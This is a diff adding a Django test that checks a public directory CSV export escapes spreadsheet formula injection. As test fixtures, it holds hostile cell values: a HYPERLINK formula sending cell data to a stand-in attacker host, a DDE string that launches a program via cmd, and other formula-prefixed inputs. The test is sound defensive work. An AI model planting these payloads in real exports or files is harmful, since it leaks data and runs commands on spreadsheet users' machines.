@@ -355,3 +355,28 @@ def test_pages_publiques_sans_connexion(client):
         assert response.status_code == 200
         assert "Se connecter" in response.content.decode()
     assert client.get(reverse("exporter_annuaire")).status_code == 200
+
+
+def test_export_csv_public_neutralise_les_formules(client):
+    """The public directory export disarms what a structure typed, as every other export does."""
+    StructureFactory(
+        publique=True,
+        raison_sociale='=HYPERLINK("http://attaquant.example/?x="&A1;"Cliquez")',
+        adresse="+33 cmd|' /C calc'!A0",
+        ville="@SUM(1+1)",
+        complement_adresse="-2+3",
+    )
+    lignes = list(csv.DictReader(io.StringIO(_csv_texte(client)), delimiter=";"))
+    assert len(lignes) == 1
+    ligne = lignes[0]
+    assert ligne["RaisonSociale"] == '\'=HYPERLINK("http://attaquant.example/?x="&A1;"Cliquez")'
+    assert ligne["Adresse"] == "'+33 cmd|' /C calc'!A0"
+    assert ligne["Ville"] == "'@SUM(1+1)"
+    assert ligne["ComplementAdresse1"] == "'-2+3"
+    assert not any(valeur.startswith(("=", "+", "-", "@")) for valeur in ligne.values())
+
+
+def _csv_texte(client) -> str:
+    response = client.get(reverse("exporter_annuaire"))
+    assert response.status_code == 200
+    return b"".join(response.streaming_content).decode("utf-8")
